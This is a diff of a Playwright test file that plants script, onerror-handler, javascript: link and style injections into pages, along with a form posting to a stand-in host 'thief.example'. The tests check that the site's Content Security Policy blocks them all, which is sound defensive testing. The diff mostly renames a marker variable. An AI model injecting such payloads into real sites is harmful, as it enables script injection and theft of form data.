@@ -2,9 +2,9 @@ import type { Page } from "@playwright/test";
 import { expect, test } from "./support/fixtures.ts";
 
 const planted = `
-  <script>window.planted = "script";</script>
-  <img src="/no-such-picture.png" alt="" onerror="window.planted = 'handler'">
-  <a id="planted" href="javascript:window.planted='address'">x</a>
+  <script>window.ran = "script";</script>
+  <img src="/no-such-picture.png" alt="" onerror="window.ran = 'handler'">
+  <a id="planted" href="javascript:window.ran='address'">x</a>
   <style>body { --planted: yes; }</style>
   <form action="https://thief.example/" method="post"><button id="thief">x</button></form>`;
 
@@ -33,10 +33,10 @@ for (const { path, account } of [
     // The policy, not React's repair of the page, must be what stops it: these are the browser's words.
     expect(complaints.join("\n")).toMatch(/inline script/i);
     const found = await page.evaluate(() => ({
-      planted: (window as { planted?: string }).planted,
+      ran: (window as { ran?: string }).ran,
       style: getComputedStyle(document.body).getPropertyValue("--planted"),
     }));
-    expect(found).toEqual({ planted: undefined, style: "" });
+    expect(found).toEqual({ ran: undefined, style: "" });
   });
 }
 
@@ -44,8 +44,8 @@ test("a form planted in a public page cannot send to anybody else", async ({ pag
   problems.allow(/Content Security Policy/);
   await plantInto(page, "**/en");
   await page.goto("/en");
-  await page.locator("#thief").click();
+  await page.locator("#thief").click({ noWaitAfter: true });
   await page.locator("#planted").click();
   await expect(page).toHaveURL("/en");
-  expect(await page.evaluate(() => (window as { planted?: string }).planted)).toBeUndefined();
+  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
 });
